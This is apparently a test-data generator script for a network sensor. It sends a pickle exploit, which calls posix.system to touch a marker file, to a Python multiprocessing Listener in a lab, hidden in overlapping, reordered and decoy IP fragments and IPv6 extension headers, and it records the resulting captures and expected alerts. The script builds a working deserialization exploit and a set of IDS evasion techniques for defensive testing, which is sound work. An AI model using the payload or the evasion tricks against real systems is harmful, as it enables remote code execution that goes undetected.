#!/usr/bin/python3
"""Makes evasion/ip-*.pcap: an exploit in odd IP packets, sent to a real Listener, and what the kernel made of them.

  ip_evasion.py            all cases, with their entries in MANIFEST.yaml (root, iproute2, tcpdump, python3-scapy)
  ip_evasion.py NAME...    these again

A time-out of 30 s ends up to 7 % later: the kernel's timers are the coarser the longer they run (at 250 Hz, steps of
2.05 s), so the cases stay out of that span.

The client is made of single packets, from an address that no kernel has. One segment carries the whole exploit (E), or
its double (B): a harmless pickle of the same length, the same TCP checksum and the same second half, so that pieces of
both make a segment that a receiver takes. `executed` says whether the marker appeared; the sensor has to raise
pickle.code-execution exactly then.
"""
import logging
import os
import random
import socket
import struct
import subprocess
import sys
import tempfile
import time

logging.getLogger("scapy").setLevel(logging.ERROR)
from scapy.all import IP, TCP, Ether, IPv6, checksum

import make
from lab import Lab, read_until, run, stop

FIRST_PORT = 52000
# of the peers: `python3` as the path has it, which may not be this one
PYTHON = subprocess.run(["python3", "-c", "import platform; print(platform.python_version())"], capture_output=True,
                        text=True, check=True, timeout=20).stdout.strip()
SOURCE4, SOURCE6 = "10.99.0.77", "fd99::77"
SERVER4, SERVER6 = "10.99.0.1", "fd99::1"
SIZE, HALF = 240, 120  # of the segment: TCP header, frame
TCP_PROTOCOL, FRAGMENT_HEADER = 6, 44
SERVER = """
import sys
from multiprocessing.connection import Listener
l = Listener((%r, %d), **(dict(family="AF_INET") if %r else {}))
print("ready", flush=True)
c = l.accept()
try: print("received", type(c.recv()).__name__, flush=True)
except Exception as e: print("refused", type(e).__name__, flush=True)
"""


def exploit():
    body = b"\x80\x03cposix\nsystem\nX%s%s\x85R."
    room = SIZE - 20 - 4 - len(body) - 4 + 4
    command = b"touch pickletap-was-here #"
    command += b"-" * (room - len(command))
    return body % (struct.pack("<I", len(command)), command)


def segment(pickle, ports, seq, ack):
    frame = struct.pack("!i", len(pickle)) + pickle
    return struct.pack("!HHIIHHHH", ports[0], ports[1], seq, ack, 0x5018, 512, 0, 0) + frame


def with_checksum(data, source, destination, family):
    pseudo = socket.inet_pton(family, source) + socket.inet_pton(family, destination)
    pseudo += struct.pack("!HH", 6, len(data)) if family == socket.AF_INET else struct.pack("!II", len(data), 6)
    return data[:16] + struct.pack("!H", checksum(pseudo + data)) + data[18:]


def double_of(evil):
    """The same length, checksum and second half; harmless."""
    pickle = evil[24:]
    head = b"\x80\x03C" + bytes([len(pickle) - 5])
    pad = HALF - 24 - len(head) - 2
    harmless = evil[:24] + head + b"h" * pad + b"\0\0" + evil[HALF:]
    # one's complement: what is missing goes into the two bytes left for it
    both = [sum(struct.unpack("!%dH" % (SIZE // 2), d)) for d in (evil, harmless)]
    missing = (both[0] - both[1]) % 0xffff
    harmless = harmless[:HALF - 2] + struct.pack("!H", missing) + harmless[HALF:]
    assert checksum(evil) == checksum(harmless) and len(evil) == len(harmless) == SIZE
    return harmless


class Sender:
    """Puts single packets on the wire; `evil` and `benign` are the segments that may be sent."""

    def __init__(self, interface, mac, peer_mac, v6, port):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
        self.socket.bind((interface, 0))
        self.socket.settimeout(3)
        self.mac, self.peer_mac, self.v6 = mac, peer_mac, v6
        self.family = socket.AF_INET6 if v6 else socket.AF_INET
        self.source, self.server = (SOURCE6, SERVER6) if v6 else (SOURCE4, SERVER4)
        self.ports = (33000 + port % 1000, port)
        self.seq = random.Random(port).getrandbits(32)
        self.ack = 0
        self.id = 0x1000 + port % 1000
        self.evil = self.benign = b""

    def ip(self, **fields):
        if self.v6:
            return IPv6(src=self.source, dst=self.server, **fields)
        return IP(src=self.source, dst=self.server, **fields)

    def send(self, packet):
        self.socket.send(bytes(Ether(src=self.mac, dst=self.peer_mac) / packet))
        time.sleep(0.002)

    def answer(self):
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            p = Ether(self.socket.recv(65536))
            if TCP in p and p[TCP].sport == self.ports[1] and p[TCP].flags.S:
                return p[TCP].seq
        raise RuntimeError("no SYN-ACK")

    def connect(self):
        tcp = TCP(sport=self.ports[0], dport=self.ports[1], seq=self.seq, flags="S", window=8192)
        self.send(self.ip() / tcp)
        self.seq = (self.seq + 1) % 2**32
        self.ack = (self.answer() + 1) % 2**32
        self.send(self.ip() / TCP(sport=self.ports[0], dport=self.ports[1], seq=self.seq, ack=self.ack, flags="A"))
        self.evil = with_checksum(segment(exploit(), self.ports, self.seq, self.ack), self.source, self.server,
                                  self.family)
        self.benign = double_of(self.evil)

    def close(self):
        self.send(self.ip() / TCP(sport=self.ports[0], dport=self.ports[1], seq=(self.seq + SIZE - 20) % 2**32,
                                  flags="R"))
        self.socket.close()

    # a piece of a segment: bytes [begin, end) of "E" or "B", more unless it is the last
    def piece(self, which, begin, end, more=None, *, id=None, ecn=0, protocol=TCP_PROTOCOL, bad=False, options=b"",
              df=False, data=None, before=b"", before_type=None, v6_length=None):
        data = (self.evil if which == "E" else self.benign)[begin:end] if data is None else data
        more = end < SIZE if more is None else more
        id = self.id if id is None else id
        if not self.v6:
            flags = ("MF" if more else 0) if not df else ("MF+DF" if more else "DF")
            packet = IP(bytes(IP(src=self.source, dst=self.server, id=id, flags=flags, frag=begin // 8, tos=ecn,
                                 proto=protocol, options=options) / data))
            if bad:
                packet.chksum ^= 0x0101
            return self.send(packet)
        header = struct.pack("!BBHI", protocol, 0, begin | more, id)
        self.send(IPv6(src=self.source, dst=self.server, tc=ecn, nh=before_type if before else FRAGMENT_HEADER) /
                  (before + header + data))

    def pieces(self, which, *cuts, **more):
        for begin, end in zip(cuts, cuts[1:]):
            self.piece(which, begin, end, **more)

    def whole(self, headers, first):
        """IPv6: the whole segment behind extension headers."""
        self.send(IPv6(src=self.source, dst=self.server, nh=first) / (headers + self.evil))

    def others(self, count):
        """Fragments of other datagrams of this source that are never completed."""
        for i in range(count):
            self.piece("B", 0, 8, True, id=0x5000 + i, protocol=TCP_PROTOCOL if not self.v6 else 17)


def options6(following, body=b"\1\4\0\0\0\0"):
    assert (len(body) + 2) % 8 == 0
    return struct.pack("!BB", following, (len(body) + 2) // 8 - 1) + body


def chain(count, kind=60):
    return b"".join(options6(kind if i + 1 < count else TCP_PROTOCOL) for i in range(count))


def routing(following, left):
    return struct.pack("!BBBBI", following, 2, 0, left, 0) + socket.inet_pton(socket.AF_INET6, "fd99::9")


def both(case):
    """Cases that mean the same in both versions."""
    return {
        "reversed": ("pieces of 48 bytes, the last first",
                     lambda s: [s.piece("E", b, b + 48) for b in range(192, -1, -48)]),
        "shuffled": ("pieces of 24 bytes in any order",
                     lambda s: [s.piece("E", b, b + 24) for b in random.Random(7).sample(range(0, 240, 24), 10)]),
        "duplicates": ("every piece twice", lambda s: [s.piece("E", b, b + 48) for b in range(0, 240, 48) for _ in (1, 2)]),
        "copy-differs-harmless-first": ("a harmless first half, then the hostile one in its place",
                                        lambda s: (s.piece("B", 0, 120), s.piece("E", 0, 120), s.piece("E", 120, 240))),
        "copy-differs-hostile-first": ("a hostile first half, then a harmless one in its place",
                                       lambda s: (s.piece("E", 0, 120), s.piece("B", 0, 120), s.piece("E", 120, 240))),
        "overlap": ("two pieces that overlap by eight equal bytes",
                    lambda s: (s.piece("E", 0, 128), s.piece("E", 120, 240))),
        "overlap-then-afresh": ("the same, and then all of it with the same id",
                                lambda s: (s.piece("E", 0, 128), s.piece("E", 120, 240), s.pieces("E", 0, 120, 240))),
        "overlap-harmless-then-afresh": ("harmless pieces that overlap, then hostile ones with the same id",
                                         lambda s: (s.piece("B", 0, 128), s.piece("B", 120, 240, True),
                                                    s.pieces("E", 0, 120, 240))),
        "inside-a-run": ("a harmless piece across two hostile ones that came in order",
                         lambda s: (s.pieces("E", 0, 80, 160), s.piece("B", 40, 120), s.piece("E", 160, 240))),
        "across-two-runs": ("a harmless piece across two hostile ones that came the other way round",
                            lambda s: (s.piece("E", 80, 160), s.piece("E", 0, 80), s.piece("B", 40, 120),
                                       s.piece("E", 160, 240))),
        "covers-others": ("a whole packet with the id of two pieces that it covers",
                          lambda s: (s.piece("B", 0, 96), s.piece("B", 144, 192), s.piece("E", 0, 240))),
        "cover": ("a piece that covers two others", lambda s: (s.piece("B", 24, 48), s.piece("B", 72, 96),
                                                               s.pieces("E", 0, 120, 240))),
        "beyond-the-end": ("a piece behind the last one",
                           lambda s: (s.piece("E", 160, 240), s.piece("E", 240, 248, True, data=b"x" * 8),
                                      s.pieces("E", 0, 80, 160))),
        "two-ends": ("two last pieces with different ends",
                     lambda s: (s.piece("E", 160, 240), s.piece("E", 80, 160, False), s.pieces("E", 0, 80, 160))),
        "last-twice": ("the last piece twice, first of all",
                       lambda s: (s.piece("E", 160, 240), s.piece("E", 160, 240), s.pieces("E", 0, 80, 160))),
        "empty-piece": ("an empty piece in between",
                        lambda s: (s.piece("E", 0, 120), s.piece("E", 120, 120, True), s.piece("E", 120, 240))),
        "odd-length": ("a piece in the middle whose length is no multiple of eight",
                       lambda s: (s.piece("E", 0, 124), s.piece("E", 120, 240))),
        "ecn-not-ect-and-ce": ("marked Not-ECT and CE",
                               lambda s: (s.piece("E", 0, 120, ecn=0), s.piece("E", 120, 240, ecn=3))),
        "ecn-ect-and-ce": ("marked ECT(0) and CE", lambda s: (s.piece("E", 0, 120, ecn=2), s.piece("E", 120, 240, ecn=3))),
        "ecn-not-ect-and-ect": ("marked Not-ECT and ECT(0)",
                                lambda s: (s.piece("E", 0, 120, ecn=0), s.piece("E", 120, 240, ecn=2))),
        "timeout": ("a harmless first half, then silence beyond the time-out, then the hostile whole",
                    lambda s: (s.piece("B", 0, 120), time.sleep(63 if s.v6 else 33), s.pieces("E", 0, 120, 240))),
        "just-in-time": ("a harmless first half, then silence below the time-out, then the hostile whole",
                         lambda s: (s.piece("B", 0, 120), time.sleep(57 if s.v6 else 27), s.pieces("E", 0, 120, 240))),
        "others-between-63": ("a harmless first half, 63 pieces of other datagrams, then the hostile whole",
                              lambda s: (s.piece("B", 0, 120), s.others(63), s.pieces("E", 0, 120, 240))),
        "others-between-64": ("the same with 64", lambda s: (s.piece("B", 0, 120), s.others(64),
                                                             s.pieces("E", 0, 120, 240))),
        "others-between-65": ("the same with 65", lambda s: (s.piece("B", 0, 120), s.others(65),
                                                             s.pieces("E", 0, 120, 240))),
    }[case]


BOTH = ("reversed shuffled duplicates copy-differs-harmless-first copy-differs-hostile-first overlap overlap-then-afresh "
        "overlap-harmless-then-afresh inside-a-run across-two-runs covers-others beyond-the-end two-ends last-twice "
        "empty-piece odd-length ecn-not-ect-and-ce ecn-ect-and-ce ecn-not-ect-and-ect timeout just-in-time "
        "others-between-63 others-between-64 others-between-65").split()

ONLY4 = {
    "tiny": ("pieces of eight bytes", lambda s: s.pieces("E", *range(0, 241, 8))),
    "bad-checksum-decoy": ("a harmless first half with a wrong header checksum, then the hostile whole",
                           lambda s: (s.piece("B", 0, 120, bad=True), s.pieces("E", 0, 120, 240))),
    "options": ("pieces with IP options", lambda s: s.pieces("E", 0, 120, 240, options=b"\1\1\1\1")),
    "dont-fragment": ("pieces that are marked as not to be fragmented", lambda s: s.pieces("E", 0, 120, 240, df=True)),
    "other-protocol": ("a harmless first half of another protocol with the same id",
                       lambda s: (s.piece("B", 0, 120, protocol=17), s.pieces("E", 0, 120, 240))),
    "too-long": ("a last piece that ends beyond 65,535 bytes, then the hostile whole with the same id",
                 lambda s: (s.piece("B", 0, 120), s.piece("B", 65528, 65536, False, data=b"x" * 8),
                            s.pieces("E", 0, 120, 240))),
}
ONLY6 = {
    "tiny": ("pieces of eight bytes behind the TCP header", lambda s: s.pieces("E", *[0] + list(range(24, 241, 8)))),
    "first-too-short": ("a first piece without the whole TCP header", lambda s: s.pieces("E", 0, 16, 120, 240)),
    "first-too-short-decoy": ("a harmless first piece without the whole TCP header, then the hostile whole",
                              lambda s: (s.piece("B", 0, 16), s.pieces("E", 0, 120, 240))),
    "next-header-differs": ("a later piece that claims another protocol",
                            lambda s: (s.piece("E", 120, 240, protocol=17), s.piece("E", 0, 120))),
    "odd-length-decoy": ("a harmless piece of odd length, then the hostile whole",
                         lambda s: (s.piece("B", 0, 124), s.pieces("E", 0, 120, 240))),
    "beyond-the-maximum": ("a piece that ends beyond 65,535 bytes, then the hostile whole",
                           lambda s: (s.piece("B", 65528, 65544, True, data=b"x" * 16), s.pieces("E", 0, 120, 240))),
    "atomic": ("a fragment header on a whole packet", lambda s: s.piece("E", 0, 240)),
    "fragment-header-twice": ("two fragment headers on a whole packet",
                              lambda s: s.piece("E", 0, 240, before=struct.pack("!BBHI", 44, 0, 0, 5), before_type=44)),
    "options-then-pieces": ("hop-by-hop options before the fragment header",
                            lambda s: s.pieces("E", 0, 120, 240, before=options6(44), before_type=0)),
    "hop-by-hop": ("behind hop-by-hop options", lambda s: s.whole(options6(6), 0)),
    "hop-by-hop-second": ("behind hop-by-hop options that do not come first",
                          lambda s: s.whole(options6(0) + options6(6), 60)),
    "hop-by-hop-twice": ("behind hop-by-hop options twice", lambda s: s.whole(options6(0) + options6(6), 0)),
    "twenty-options": ("behind twenty destination options headers", lambda s: s.whole(chain(20), 60)),
    "hundred-options": ("behind a hundred destination options headers", lambda s: s.whole(chain(100), 60)),
    "padding-not-zero": ("behind padding that is not zero", lambda s: s.whole(options6(6, b"\1\4\0\0\0\1"), 60)),
    "padding-of-seven": ("behind seven bytes of padding and an option",
                         lambda s: s.whole(options6(6, b"\1\5" + b"\0" * 5 + b"\x1e\5" + b"\0" * 5), 60)),
    "padding-of-eight": ("behind eight bytes of padding", lambda s: s.whole(options6(6, b"\1\6" + b"\0" * 6 +
                                                                                     b"\x1e\4" + b"\0" * 4), 60)),
    "unknown-option-skip": ("behind an unknown option that may be skipped",
                            lambda s: s.whole(options6(6, b"\x1e\4\0\0\0\0"), 60)),
    "unknown-option-discard": ("behind an unknown option that may not be skipped",
                               lambda s: s.whole(options6(6, b"\x5e\4\0\0\0\0"), 60)),
    "eight-options": ("behind eight unknown options", lambda s: s.whole(options6(6, b"\x1e\0" * 8 + b"\1\4\0\0\0\0"), 60)),
    "nine-options": ("behind nine unknown options", lambda s: s.whole(options6(6, b"\x1e\0" * 9 + b"\1\2\0\0"), 60)),
    "routing-none-left": ("behind a routing header with no station left",
                          lambda s: s.whole(routing(6, 0), 43)),
    "routing-one-left": ("behind a routing header with a station left", lambda s: s.whole(routing(6, 1), 43)),
    "authentication-header": ("behind an authentication header",
                              lambda s: s.whole(struct.pack("!BBHII", 6, 1, 0, 1, 1), 51)),
    "mobility-header": ("behind a mobility header", lambda s: s.whole(struct.pack("!BBBBHH", 6, 0, 0, 0, 0, 0), 135)),
}


def table():
    out = {}
    for v6, only in ((False, ONLY4), (True, ONLY6)):
        for name in BOTH:
            out["ip%d-%s" % (6 if v6 else 4, name)] = (v6,) + both(name)
        for name, (story, act) in only.items():
            out["ip%d-%s" % (6 if v6 else 4, name)] = (v6, story, act)
    # a case's place is its port: what is new comes last
    for v6 in (False, True):
        out["ip%d-cover" % (6 if v6 else 4)] = (v6,) + both("cover")
    return out


def mac_of(lab, side):
    said = subprocess.run(["ip", "-n", lab.ns[side], "-o", "link", "show", lab.veth[side]], capture_output=True, text=True,
                          check=True, timeout=20).stdout
    return said.split("link/ether ")[1].split()[0]


def sender_in(lab, *arguments):
    """A Sender whose socket is in the client's namespace; this process stays where it is."""
    here = os.open("/proc/self/ns/net", os.O_RDONLY)
    there = os.open("/run/netns/" + lab.ns["client"], os.O_RDONLY)
    try:
        os.setns(there, os.CLONE_NEWNET)
        return Sender(lab.veth["client"], mac_of(lab, "client"), mac_of(lab, "server"), *arguments)
    finally:
        os.setns(here, os.CLONE_NEWNET)
        os.close(here)
        os.close(there)


def setns_fallback():
    """os.setns came with Python 3.12."""
    if hasattr(os, "setns"):
        return
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)

    def setns(fd, kind):
        if libc.setns(fd, kind) != 0:
            raise OSError(ctypes.get_errno(), "setns")
    os.setns, os.CLONE_NEWNET = setns, 0x40000000


def attempt(lab, v6, port, act, path):
    """Plays a case; whether the marker appeared."""
    with tempfile.TemporaryDirectory(prefix="pickletap-make-") as work:
        tap = lab.start("server", ["tcpdump", "-Z", "root", "-n", "-U", "--immediate-mode", "-i", lab.veth["server"], "-s",
                                   "0", "-w", path, "ether src %s or tcp port %d" % (mac_of(lab, "client"), port)],
                        stderr=subprocess.PIPE)
        read_until(tap.stderr, rb"listening on", 15)
        program = SERVER % (SERVER6 if v6 else SERVER4, port, not v6)
        if v6:
            # multiprocessing takes a host with colons for AF_INET as well: its sockets are made for the other family
            program = ("import socket, multiprocessing.connection as m\n"
                       "real = socket.socket\n"
                       "class Six(real):\n"
                       "    def __init__(self, *a, **k): super().__init__(socket.AF_INET6, socket.SOCK_STREAM, 0, **k) "
                       "if a[:1] == (socket.AF_INET,) else super().__init__(*a, **k)\n"
                       "socket.socket = Six\n") + program
        server = lab.start("server", ["python3", "-c", program], cwd=work, stdout=subprocess.PIPE)
        read_until(server.stdout, rb"ready", 15)
        sender = sender_in(lab, v6, port)
        sender.connect()
        act(sender)
        marker = os.path.join(work, "pickletap-was-here")
        deadline = time.monotonic() + 1.2
        while not os.path.exists(marker) and time.monotonic() < deadline:
            time.sleep(0.02)
        time.sleep(0.15)
        sender.close()
        time.sleep(0.2)
        stop(server)
        stop(tap, 2)
        os.chmod(path, 0o644)
        return os.path.exists(marker)


def entry(name, v6, story, port, executed):
    version = {"python": PYTHON, "key": "none"}
    server, client = (SERVER6, SOURCE6) if v6 else (SERVER4, SOURCE4)
    got_pickle = executed or name in DELIVERED_HARMLESS
    alerts = [{"rule": "exposure.unauthenticated", "count": 1, "src": client}] if got_pickle else []
    if executed:
        alerts.append({"rule": "pickle.code-execution", "count": 1, "src": client, "outcome": "attempted",
                       "callables": ["posix.system"], "args_contain": "touch"})
    return {"file": "evasion/%s.pcap" % name, "story": "An exploit in IPv%d: %s." % (6 if v6 else 4, story),
            "scenario": "evasion-" + name, "made_by": "ip_evasion.py", "server": dict(version, kind="listener"),
            "client": dict(version), "executed": executed,
            "listeners": [{"address": server, "port": port, "auth": "none", "application": "connection"}] if got_pickle
            else [], "app_proto": "python-mp", "alerts": alerts}


# Where the kernel took the harmless double.
DELIVERED_HARMLESS = {"ip%d-%s" % (v, n) for v in (4, 6) for n in
                      ("copy-differs-harmless-first", "just-in-time", "others-between-63")} | {
    "ip6-others-between-64", "ip6-others-between-65"}


def main():
    setns_fallback()
    cases = table()
    wanted = sys.argv[1:] or list(cases)
    made = []
    with Lab() as lab:
        for family, address in ((None, SOURCE4), ("-6", SOURCE6)):
            run("ip", "-n", lab.ns["server"], *([family] if family else []), "neigh", "add", address, "lladdr",
                mac_of(lab, "client"), "dev", lab.veth["server"], "nud", "permanent")
        with tempfile.TemporaryDirectory(prefix="pickletap-make-") as folder:
            for number, (name, (v6, story, act)) in enumerate(cases.items()):
                if name not in wanted:
                    continue
                path = os.path.join(folder, name + ".pcap")
                executed = attempt(lab, v6, FIRST_PORT + number, act, path)
                print("%-36s %s" % (name, "executed" if executed else "-"), flush=True)
                made.append(entry(name, v6, story, FIRST_PORT + number, executed))
                target = os.path.join(make.PCAPS, "evasion", name + ".pcap")
                with open(path, "rb") as f, open(target, "wb") as g:
                    g.write(f.read())
    kept = {e["scenario"]: e for e in make.read_manifest() if e.get("made_by") == "ip_evasion.py"}
    kept.update((e["scenario"], e) for e in made)
    ours = [kept["evasion-" + name] for name in cases if "evasion-" + name in kept]
    make.write_manifest([e for e in make.read_manifest() if e.get("made_by") != "ip_evasion.py"] + ours)
    return 0


if __name__ == "__main__":
    sys.exit(main())
